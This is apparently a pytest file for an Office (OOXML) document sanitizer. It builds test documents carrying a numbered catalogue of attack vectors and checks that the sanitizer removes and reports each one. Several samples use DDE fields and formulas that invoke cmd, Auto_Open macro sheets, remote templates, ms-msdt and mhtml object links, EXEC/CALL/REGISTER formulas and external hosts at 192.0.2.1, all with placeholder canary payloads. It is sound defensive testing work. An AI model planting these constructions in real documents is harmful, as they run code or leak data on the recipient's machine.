"""Every attack of the catalogue (O01 to O28) is gone from the result, said so in the report, and the rest is still there."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from oletools import msodde
from oletools.oleobj import find_customUI, find_external_relationships
from oletools.olevba import VBA_Parser
from oletools.ooxml import XmlParser

from sanitizers.model import Kind, Reason, Verdict
from tests.build import ooxml as build
from tests.build.context import run
from tests.build.ooxml import CANARY, MS, OFFICE, OLE, R_STRICT, A, C, Pack, X

ACTIVE_X = '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{' + CANARY + '}"/>'
EVIL = f"http://192.0.2.1/{CANARY}"
OBJECT = (
    '<w:p><w:r><w:object><v:shape style="width:10pt"><v:imagedata r:id="rIdPic"/></v:shape>'
    '<o:OLEObject Type="Embed" ProgID="{prog}" ShapeID="_1" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
)


def _doc(kind: str, name: str, content: bytes | str = OLE, content_type: str = "application/x-foo", body: str = "") -> Pack:
    return build.docx(body).attach("word/document.xml", "rIdBad", kind, name, content, content_type)


def _outside(kind: str, target: str, body: str = "", *, strict: bool = False, part: str = "word/document.xml") -> Pack:
    kind = f"{R_STRICT}/{kind}" if strict else kind
    return build.docx(body, strict=strict).link(part, "rIdBad", kind, target, external=True)


def _settings(strict: bool, target: str) -> Pack:
    pack = build.docx(strict=strict)
    space = build.W_STRICT if strict else build.W
    relations = R_STRICT if strict else build.R
    text = f'<w:settings xmlns:w="{space}" xmlns:r="{relations}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="90"/></w:settings>'
    pack.attach("word/document.xml", "rIdS", f"{relations}/settings", "word/settings.xml", text, f"{OFFICE}wordprocessingml.settings+xml")
    return pack.link("word/settings.xml", "rId1", f"{relations}/attachedTemplate", target, external=True)


def _object(prog: str, kind: str = "oleObject", content: bytes = OLE, name: str = "word/embeddings/oleObject1.bin") -> Pack:
    pack = build.docx(OBJECT.format(prog=prog))
    pack.attach("word/document.xml", "rIdPic", "image", "word/media/image1.png", build.png())
    return pack.attach("word/document.xml", "rIdOle", kind, name, content, OFFICE + "oleObject")


def _macro_sheet(kind: str = "xlMacrosheet") -> Pack:
    sheets = '<sheet name="M1" sheetId="2" state="veryHidden" r:id="rIdM"/><sheet name="表1" sheetId="1" r:id="rId1"/>'
    names = (
        '<bookViews><workbookView activeTab="1"/></bookViews><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M1!$A$1</definedName>'
        '<definedName name="範囲" localSheetId="1">表1!$A$1</definedName></definedNames>'
    )
    names_after = names.partition("</bookViews>")
    pack = build.xlsx(workbook=names_after[2], sheets=sheets)
    text = (
        '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        f'xmlns="{X}"><sheetData><row r="1"><c r="A1"><f>EXEC("{CANARY}")</f></c></row></sheetData></xm:macrosheet>'
    )
    return pack.attach("xl/workbook.xml", "rIdM", f"{MS}/{kind}", "xl/macrosheets/sheet1.xml", text, "application/vnd.ms-excel.macrosheet+xml")


def _cell(formula: str, value: str = "42") -> Pack:
    return build.xlsx(f'<row r="1"><c r="A1"><f>{formula}</f><v>{value}</v></c></row>')


def _dde_link() -> Pack:
    pack = build.xlsx('<row r="1"><c r="A1"><f>[1]!x</f><v>42</v></c></row>', workbook='<externalReferences><externalReference r:id="rIdE"/></externalReferences>')
    text = f'<externalLink xmlns="{X}"><ddeLink ddeService="cmd" ddeTopic="/c {CANARY}"><ddeItems><ddeItem name="x"/></ddeItems></ddeLink></externalLink>'
    return pack.attach("xl/workbook.xml", "rIdE", "externalLink", "xl/externalLinks/externalLink1.xml", text, f"{OFFICE}spreadsheetml.externalLink+xml")


def _connection() -> Pack:
    text = f'<connections xmlns="{X}"><connection id="1" name="q" type="1"><dbPr connection="{EVIL}"/></connection></connections>'
    return build.xlsx().attach("xl/workbook.xml", "rIdC", "connections", "xl/connections.xml", text, f"{OFFICE}spreadsheetml.connections+xml")


def _click(action: str, target: str = "", kind: str = "hyperlink") -> Pack:
    click = f'<a:hlinkClick r:id="{"rIdL" if target else ""}" action="{action}"/>'
    pack = build.pptx(build.shape("押す", click, 3))
    return pack.link("ppt/slides/slide1.xml", "rIdL", kind, target, external=True) if target else pack


def _web_extension() -> Pack:
    text = f'<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{CANARY}"/>'
    panes = '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"/>'
    pack = build.docx().attach("", "rIdW", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                               "word/webextensions/taskpanes.xml", panes, "application/vnd.ms-office.webextensiontaskpanes+xml")  # fmt: skip
    return pack.attach("word/webextensions/taskpanes.xml", "rId1", "http://schemas.microsoft.com/office/2011/relationships/webextension",
                       "word/webextensions/webextension1.xml", text, "application/vnd.ms-office.webextension+xml")  # fmt: skip


def _custom_ui() -> Pack:
    text = f'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="{CANARY}"/>'
    return build.docx().attach("", "rIdU", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", text)


def _data_mashup() -> Pack:
    text = f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{CANARY}</DataMashup>'
    return build.xlsx().attach("xl/workbook.xml", "rIdD", "customXml", "customXml/item1.xml", text)


def _linked_picture(target: str) -> Pack:
    return build.docx(build.inline_picture("rIdBad", "link")).link("word/document.xml", "rIdBad", "image", target, external=True)


def _hyperlink(target: str) -> Pack:
    body = '<w:p><w:hyperlink r:id="rIdBad"><w:r><w:t>文字</w:t></w:r></w:hyperlink></w:p>'
    return build.docx(body).link("word/document.xml", "rIdBad", "hyperlink", target, external=True)


def _header_field() -> Pack:
    pack = build.docx()
    text = f'<w:hdr {build.SPACES}>{build.field("D", "DEA", f"UTO cmd {CANARY}")}</w:hdr>'
    pack.parts["word/document.xml"] = pack.parts["word/document.xml"].replace(
        b"<w:sectPr/>", b'<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>')  # fmt: skip
    return pack.attach("word/document.xml", "rIdH", "header", "word/header9.xml", text, f"{OFFICE}wordprocessingml.header+xml")


def _nested_field() -> Pack:
    """The name of the outer field comes out of an inner one: { { QUOTE 68 68 69 } cmd }."""
    inner = build.field("QUOTE 68 68 69", shown="x").removeprefix("<w:p>").removesuffix("</w:p>")
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return build.docx(f"<w:p>{begin}{inner}<w:r><w:instrText> cmd {CANARY}</w:instrText></w:r>{end}</w:p>")


def _embedded_font() -> Pack:
    text = (
        f'<w:fonts {build.SPACES}><w:font w:name="明朝"><w:embedRegular r:id="rId1" w:fontKey="{{302EE813-EB4A-4642-A93A-89EF99B2457E}}"/>'
        "</w:font></w:fonts>"
    )
    pack = build.docx().attach("word/document.xml", "rIdF", "fontTable", "word/fontTable.xml", text, f"{OFFICE}wordprocessingml.fontTable+xml")
    return pack.attach("word/fontTable.xml", "rId1", "font", "word/fonts/font1.odttf", CANARY, "application/vnd.openxmlformats-officedocument.obfuscatedFont")


def _alt_chunk(content: str, content_type: str) -> Pack:
    return _doc("aFChunk", "word/afchunk.dat", content, content_type, '<w:altChunk r:id="rIdBad"/>')


def _fallback() -> Pack:
    """The dangerous branch of an alternative is not the one that old readers see."""
    body = (
        '<mc:AlternateContent><mc:Choice xmlns:q="urn:q" Requires="q"><q:run/></mc:Choice><mc:Fallback>'
        f'<w:p><w:fldSimple w:instr="INCLUDETEXT {EVIL}"><w:r><w:t>旧</w:t></w:r></w:fldSimple></w:p></mc:Fallback></mc:AlternateContent>'
    )
    return build.docx(body)


def _chart_link() -> Pack:
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="図表"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/>'
        f'<a:graphic><a:graphicData uri="{C}"><c:chart xmlns:c="{C}" r:id="rIdC"/></a:graphicData></a:graphic></p:graphicFrame>'
    )
    chart = (
        f'<c:chartSpace xmlns:c="{C}" xmlns:a="{A}" xmlns:r="{build.R}"><c:chart><c:plotArea/></c:chart>'
        '<c:externalData r:id="rId1"/></c:chartSpace>'
    )
    pack = build.pptx(frame).attach("ppt/slides/slide1.xml", "rIdC", "chart", "ppt/charts/chart1.xml", chart, f"{OFFICE}drawingml.chart+xml")
    return pack.link("ppt/charts/chart1.xml", "rId1", "oleObject", f"file:///\\\\192.0.2.1\\{CANARY}.xlsx", external=True)


def _sheet_object() -> Pack:
    xdr = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
    points = "<xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff>"
    ole = (
        '<drawing r:id="rIdD"/><oleObjects><mc:AlternateContent><mc:Choice Requires="x14" '
        'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><oleObject progId="Package" shapeId="1025" r:id="rIdO"><objectPr '
        f'defaultSize="0" r:id="rIdI"><anchor xmlns:xdr="{xdr}"><from>{points}</from><to>{points}</to></anchor></objectPr></oleObject></mc:Choice>'
        '<mc:Fallback><oleObject progId="Package" shapeId="1025" r:id="rIdO"/></mc:Fallback></mc:AlternateContent></oleObjects>'
    )
    pack = build.xlsx(after=ole)
    sheet = "xl/worksheets/sheet1.xml"
    shape = (
        f'<xdr:wsDr xmlns:xdr="{xdr}" xmlns:a="{A}"><xdr:twoCellAnchor><xdr:from>{points}</xdr:from><xdr:to>{points}</xdr:to><xdr:sp macro="" '
        'textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="o"><a:extLst><a:ext uri="{63B3BB69-23CF-44E3-9099-C40C66FF867C}"><a14:compatExt '
        'xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main" spid="_x0000_s1025"/></a:ext></a:extLst></xdr:cNvPr><xdr:cNvSpPr/>'
        "</xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
    )
    pack.attach(sheet, "rIdD", "drawing", "xl/drawings/drawing1.xml", shape, f"{OFFICE}drawing+xml")
    pack.attach(sheet, "rIdI", "image", "xl/media/image1.png", build.png())
    return pack.attach(sheet, "rIdO", "oleObject", "xl/embeddings/oleObject1.bin", OLE, OFFICE + "oleObject")


CASES: dict[str, tuple[Callable[[], Pack], str]] = {
    "O01 VBA under another name": (lambda: _doc(f"{MS}/vbaProject", "word/a.dat"), "ooxml.vba"),
    "O01 VBA without any known type": (lambda: _doc("http://example.com/rel", "word/a.dat"), "ooxml.unknown_part"),
    "O02 purged VBA": (lambda: _doc(f"{MS}/vbaProject", "word/vbaProject.bin", OLE), "ooxml.vba"),
    "O03 macro sheet": (_macro_sheet, "ooxml.macro_sheet"),
    "O03 Auto_Open": (_macro_sheet, "ooxml.macro_name"),
    "O03 international macro sheet": (lambda: _macro_sheet("xlIntlMacrosheet"), "ooxml.macro_sheet"),
    "O04 template by http": (lambda: _settings(False, EVIL), "ooxml.external_template"),
    "O04 template by UNC, strict": (lambda: _settings(True, f"\\\\192.0.2.1\\{CANARY}"), "ooxml.external_template"),
    "O05 linked object": (lambda: _outside("oleObject", f"mhtml:{EVIL}!x-usc:{EVIL}!"), "ooxml.ole_object"),
    "O05 linked object, strict": (lambda: _outside("oleObject", f"ms-msdt:/{CANARY}", strict=True), "ooxml.ole_object"),
    "O06 picture by http": (lambda: _linked_picture(EVIL), "ooxml.external_image"),
    "O06 picture by UNC": (lambda: _linked_picture(f"file://///192.0.2.1/{CANARY}"), "ooxml.external_image"),
    **{
        f"O07 link {target[:12]}": (lambda target=target: _hyperlink(target + CANARY), "ooxml.hyperlink")
        for target in ("file:///c:/", "\\\\host\\", "search-ms:q=", "ms-officecmd:", "javascript:", "vbscript:", "java\tscript:", "data:", "../", "http:\\\\h")
    },
    "O08 DDEAUTO over runs": (lambda: build.docx(build.field("DDE", "AUTO c:\\\\cmd ", CANARY)), "ooxml.dde"),
    "O08 plain DDE": (lambda: build.docx(build.field(f' DDE "cmd" "{CANARY}"')), "ooxml.dde"),
    "O08 lower case": (lambda: build.docx(build.field(f"\tddeauto cmd {CANARY}")), "ooxml.dde"),
    "O08 header": (_header_field, "ooxml.dde"),
    "O08 name out of a field": (_nested_field, "ooxml.field"),
    "O08 simple field": (lambda: build.docx(f'<w:p><w:fldSimple w:instr="DDE cmd {CANARY}"/></w:p>'), "ooxml.dde"),
    "O09 INCLUDEPICTURE": (lambda: build.docx(build.field(f'INCLUDEPICTURE "{EVIL}" \\d')), "ooxml.external_field"),
    "O09 LINK": (lambda: build.docx(build.field(f"LINK Excel.Sheet {EVIL}")), "ooxml.external_field"),
    "O09 HYPERLINK field": (lambda: build.docx(build.field(f'HYPERLINK "file:///{CANARY}"')), "ooxml.hyperlink"),
    "O09 MACROBUTTON": (lambda: build.docx(build.field(f"MACROBUTTON {CANARY} 押す")), "ooxml.field"),
    "O10 ddeLink": (_dde_link, "ooxml.dde"),
    **{
        f"O11 {formula[:12]}": (lambda formula=formula: _cell(formula), "ooxml.formula")
        for formula in (
            f'WEBSERVICE("{EVIL}")', f'_xlfn.IMAGE("{EVIL}")', f'RTD("{CANARY}",,"x")', f'CALL("{CANARY}","a","b")', f'REGISTER("{CANARY}")',
            f'1+EXEC("{CANARY}")', f'FILTERXML("{CANARY}","/")', f'_xll.ADDIN("{CANARY}")', f'SUM(1,Unknown("{CANARY}"))',
        )
    },
    "O11 HYPERLINK": (lambda: _cell(f'HYPERLINK("file://{CANARY}","x")'), "ooxml.hyperlink"),
    "O11 HYPERLINK put together": (lambda: _cell(f'HYPERLINK("ht"&amp;"tp://{CANARY}","x")'), "ooxml.hyperlink"),
    "O11 other workbook": (lambda: _cell(f"'\\\\192.0.2.1\\[{CANARY}.xlsx]Sheet1'!A1"), "ooxml.external_link"),
    "O11 DDE formula": (lambda: _cell(f"cmd|'/c {CANARY}'!A0"), "ooxml.dde"),
    "O12 connections": (_connection, "ooxml.connection"),
    "O12 DataMashup": (_data_mashup, "ooxml.custom_xml"),
    "O13 OLE package": (lambda: _object("Package"), "ooxml.ole_object"),
    "O13 OLE package in a sheet": (_sheet_object, "ooxml.ole_object"),
    "O14 embedded workbook": (lambda: _object("Excel.Sheet.12", "package", build.xlsx().bytes() + CANARY.encode(), "word/embeddings/a.xlsx"), "ooxml.embedded_file"),
    "O15 equation": (lambda: _object("Equation.3", content=OLE + bytes.fromhex("02CE020000000000C000000000000046")), "ooxml.ole_object"),
    "O16 ActiveX": (lambda: _doc("control", "word/activeX/activeX1.xml", ACTIVE_X, "application/vnd.ms-office.activeX+xml"), "ooxml.activex"),
    "O17 altChunk RTF": (lambda: _alt_chunk("{\\rtf1 " + CANARY + "}", "application/rtf"), "ooxml.alt_chunk"),
    "O17 altChunk HTML": (lambda: _alt_chunk(f"<script>{CANARY}</script>", "text/html"), "ooxml.alt_chunk"),
    "O18 custom UI": (_custom_ui, "ooxml.custom_ui"),
    "O19 web extension": (_web_extension, "ooxml.web_extension"),
    "O20 program": (lambda: _click("ppaction://program", f"file:///{CANARY}"), "ooxml.action"),
    "O20 macro": (lambda: _click(f"ppaction://macro?name={CANARY}"), "ooxml.action"),
    "O20 other show": (lambda: _click("ppaction://hlinkpres?slideindex=1", f"file:///{CANARY}"), "ooxml.action"),
    "O20 OLE verb": (lambda: _click(f"ppaction://ole?verb=0{CANARY}"), "ooxml.action"),
    "O20 unknown action": (lambda: _click(f"x{CANARY}"), "ooxml.action"),
    "O22 orphan": (lambda: build.docx().part(f"word/{CANARY}.bin", OLE), "ooxml.unreferenced_part"),
    "O22 thumbnail": (lambda: build.docx().attach("", "rIdT", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.emf", CANARY), "ooxml.thumbnail"),
    "O22 printer settings": (lambda: build.xlsx().attach("xl/worksheets/sheet1.xml", "rIdP", "printerSettings", "xl/printerSettings/p1.bin", CANARY), "ooxml.printer_settings"),
    "O23 font": (_embedded_font, "ooxml.embedded_font"),
    "O23 EPS": (lambda: build.docx(build.inline_picture("rIdE")).attach("word/document.xml", "rIdE", "image", "word/media/a.eps", f"%!PS-Adobe-3.0 EPSF-3.0\n{CANARY}"), "ooxml.picture_replaced"),
    "O27 sub-document": (lambda: _outside("subDocument", EVIL, '<w:subDoc r:id="rIdBad"/>'), "ooxml.sub_document"),
    "O27 frame": (lambda: _outside("frame", EVIL), "ooxml.frame"),
    "O27 slide update": (lambda: build.pptx().link("ppt/slides/slide1.xml", "rIdS", "slideUpdateUrl", EVIL, external=True), "ooxml.external_reference"),
    "O27 chart data outside": (_chart_link, "ooxml.ole_object"),
    "alternative content": (_fallback, "ooxml.external_field"),
}  # fmt: skip


def _texts(content: bytes) -> bytes:
    return b"\n".join(name.encode() + b"\n" + data for name, data in build.members(content).items())


@pytest.mark.parametrize("case", CASES)
def test_is_gone_and_said(case: str, tmp_path: Path) -> None:
    make, code = CASES[case]
    pack = make()
    given = pack.bytes()
    assert CANARY.encode() in _texts(given), "the sample does not hold what it should"
    outcome = run(given, "様式")
    report = outcome.report
    assert report.verdict is Verdict.SANITIZED, (report.reason, [f for f in report.findings if f.action == "refused"])
    assert code in {finding.code for finding in report.findings}
    assert outcome.content is not None
    content = outcome.content.bytes()
    everything = _texts(content)
    assert CANARY.encode() not in everything
    assert b"\xd0\xcf\x11\xe0" not in everything
    assert any(word.encode() in everything for word in ("本文", "表1", "題名"))
    _nothing_active(content, tmp_path / f"out.{report.output.kind if report.output else 'x'}")


def _nothing_active(content: bytes, path: Path) -> None:
    """What oletools see in the result: nothing."""
    path.write_bytes(content)
    parser = VBA_Parser(str(path), data=content)
    assert not parser.detect_vba_macros()
    assert not parser.detect_xlm_macros()
    parser.close()
    assert not msodde.process_file(str(path), msodde.FIELD_FILTER_DDE)
    relations = XmlParser(str(path))
    assert not list(find_external_relationships(relations))
    assert not list(find_customUI(relations))


@pytest.mark.parametrize("case", CASES)
def test_twice_is_once(case: str) -> None:
    once = run(CASES[case][0]().bytes(), "様式").content
    assert once is not None
    twice = run(once.bytes(), "様式")
    assert twice.report.verdict is Verdict.CLEAN, twice.report.findings
    assert twice.content is not None
    assert twice.content.bytes() == once.bytes()


def test_values_and_shown_text_stay() -> None:
    assert b"<v>42</v>" in _texts(_clean(_cell(f'WEBSERVICE("{EVIL}")')))
    assert b"shown" in _texts(_clean(CASES["O08 plain DDE"][0]()))
    assert "押す".encode() in _texts(_clean(CASES["O09 MACROBUTTON"][0]()))
    assert "文字".encode() in _texts(_clean(_hyperlink("file:///x")))
    assert "旧".encode() in _texts(_clean(_fallback()))


def test_picture_of_an_object_stays() -> None:
    parts = build.members(_clean(_object("Package")))
    assert b"imagedata" in parts["word/document.xml"]
    assert any(name.endswith(".png") for name in parts)


def test_picture_of_an_object_in_a_sheet_stays_at_its_place() -> None:
    parts = build.members(_clean(_sheet_object()))
    drawing = parts["xl/drawings/drawing1.xml"].decode()
    assert drawing.count("twoCellAnchor>") == 2
    assert "<xdr:pic>" in drawing
    assert "compatExt" not in drawing
    assert "media/image1.png" in parts["xl/drawings/_rels/drawing1.xml.rels"].decode()
    assert "xl/media/image1.png" in parts


def test_number_of_sheets_is_counted_anew() -> None:
    book = build.members(_clean(_macro_sheet()))["xl/workbook.xml"].decode()
    assert 'localSheetId="0"' in book
    assert "M1" not in book


def _clean(pack: Pack) -> bytes:
    content = run(pack.bytes(), "x").content
    assert content is not None
    return content.bytes()


@pytest.mark.parametrize("where", ["word/document.xml", "docProps/core.xml", "_rels/.rels", "[Content_Types].xml"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_o21_doctype_anywhere_is_refused(where: str, encoding: str) -> None:
    pack = build.docx().attach("", "rIdC", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
                               "docProps/core.xml", '<cp:coreProperties xmlns:cp="urn:x"/>')  # fmt: skip
    parts = build.members(pack.bytes())
    text = parts[where].decode().partition("?>")[2]
    parts[where] = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY e "{CANARY}">]>{text}'.encode(encoding)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    outcome = run(out.getvalue(), "x.docx")
    assert outcome.content is None
    assert outcome.report.reason is Reason.MALFORMED


@pytest.mark.parametrize("twin", ["word/document.xml", "WORD/document.xml", "word\\document.xml"])
def test_o24_two_parts_of_one_name_are_refused(twin: str) -> None:
    out = io.BytesIO(build.docx().bytes())
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning) if twin == "word/document.xml" else _nothing():
        archive.writestr(twin, "<a/>")
    assert run(out.getvalue(), "x.docx").report.reason is Reason.MALFORMED


class _nothing:  # noqa: N801
    def __enter__(self) -> None: ...
    def __exit__(self, *_: object) -> None: ...


MACRO_KINDS = {
    "application/vnd.ms-word.document.macroEnabled.main+xml": (build.docx, Kind.DOCX),
    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml": (build.docx, Kind.DOTX),
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml": (build.xlsx, Kind.XLSX),
    "application/vnd.ms-excel.template.macroEnabled.main+xml": (build.xlsx, Kind.XLTX),
    "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml": (build.pptx, Kind.PPTX),
    "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml": (build.pptx, Kind.PPSX),
    "application/vnd.ms-powerpoint.template.macroEnabled.main+xml": (build.pptx, Kind.POTX),
}


@pytest.mark.parametrize("main", MACRO_KINDS)
def test_o28_macro_kinds_become_plain_kinds(main: str) -> None:
    make, kind = MACRO_KINDS[main]
    outcome = run(make(kind=main).bytes(), "様式.docx")
    assert outcome.report.output is not None
    assert outcome.report.output.kind is kind
    assert outcome.content is not None
    assert b"macroEnabled" not in _texts(outcome.content.bytes())
